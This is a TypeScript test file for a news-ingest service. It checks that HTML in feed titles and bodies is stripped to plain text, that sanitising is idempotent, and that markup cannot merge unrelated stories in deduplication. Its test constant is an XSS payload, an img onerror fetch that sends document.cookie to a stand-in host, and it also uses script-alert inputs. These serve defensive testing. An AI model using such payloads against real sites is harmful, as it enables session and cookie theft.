import { describe, expect, it } from 'vitest';
import { ArticleV1 } from '../../schemas/messages/article.ts';
import { plainText } from '../../schemas/plain-text.ts';
import { decideStream } from '../../services/dedup/chunk.ts';
import { validateArticle } from '../../services/ingest/producer.ts';

const HOSTILE = `<img src=x onerror="fetch('https://collect.example/c?d='+document.cookie+'&amp;site=news')">`;
const at = (minute: number) => `2026-11-20T10:${String(minute).padStart(2, '0')}:00Z`;

describe('article text is plain text for every producer', () => {
  it('never lets markup shown in a feed item make two different stories one event', () => {
    // As a feed sends them: the same hostile markup in the title and description of two unrelated stories.
    const stories = [
      {
        url: 'https://wire.example/opec-cut',
        title: `OPEC+ agrees crude oil output cut ${HOSTILE}`,
        body: `<p>${HOSTILE}Ministers agreed in Vienna to lower production by 400,000 barrels a day from January.</p>`,
      },
      {
        url: 'https://wire.example/ransomware-hospitals',
        title: `Ransomware gang leaks hospital patient files ${HOSTILE}`,
        body: `<p>${HOSTILE}The group published records of 12,000 patients after the clinics refused to pay.</p>`,
      },
    ];
    const stream = stories.map((s, i) => ({
      article: ArticleV1.parse({ version: 1, publication: `Outlet ${i}`, publishedAt: at(i), ...s }),
      ts: Date.parse(at(i + 1)),
    }));
    const events = decideStream(stream);
    expect(new Set(events.values()).size).toBe(2);
    for (const { article } of stream) {
      expect(article.title).not.toMatch(/[<>]|onerror|img/);
      expect(article.body).not.toMatch(/[<>]|onerror|cookie/);
    }
  });

  it('gives a headline and body without tags, entities decoded, whichever producer sends it', () => {
    const v = validateArticle({
      url: 'https://wire.example/a',
      title: ' <b>AT&amp;T</b> buys <em>fibre</em> network &#8211; shares rise&nbsp;3% ',
      body: '<p>First paragraph.</p><p>Second&nbsp;paragraph<br>with a break.</p><script>alert(1)</script>',
      publication: '<i>Daily</i> Wire',
    });
    expect(v.ok && v.article.title).toBe('AT&T buys fibre network – shares rise 3%');
    expect(v.ok && v.article.body).toBe('First paragraph.\nSecond paragraph\nwith a break.');
    expect(v.ok && v.article.publication).toBe('Daily Wire');
  });

  it('refuses a headline that is nothing but markup', () => {
    expect(validateArticle({ url: 'https://wire.example/a', title: `${HOSTILE}<br>`, publication: 'Wire' }).ok).toBe(
      false,
    );
  });

  it('leaves plain text as it is, and gives the same text when applied again (producer, then worker)', () => {
    for (const s of [
      'Fed holds rates at 5.25% as inflation < 3% for a second month',
      'S&P 500 closes at a record; AT&T up 2%',
      'Line one.\nLine two.',
    ])
      expect(plainText(s)).toBe(s);
    for (const s of ['&amp;lt;img src=x onerror=alert(1)&amp;gt;Tanker seized', `<p>Storm ${HOSTILE} hits coast</p>`]) {
      const once = plainText(s);
      expect(once).not.toMatch(/[<>]/);
      expect(plainText(once)).toBe(once);
    }
  });
});
